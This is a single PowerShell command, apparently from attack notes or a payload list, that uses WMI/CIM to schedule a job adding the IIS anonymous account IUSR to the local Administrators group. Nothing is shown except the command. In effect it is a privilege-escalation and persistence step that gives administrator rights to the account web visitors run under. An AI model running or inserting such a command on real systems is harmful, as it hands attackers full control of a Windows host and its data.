Invoke-CimMethod -ClassName Win32_ScheduledJob -MethodName Create -Arguments @{ Command = 'net localgroup Administrators IUSR /add'; StartTime = '********120000.000000+000' }
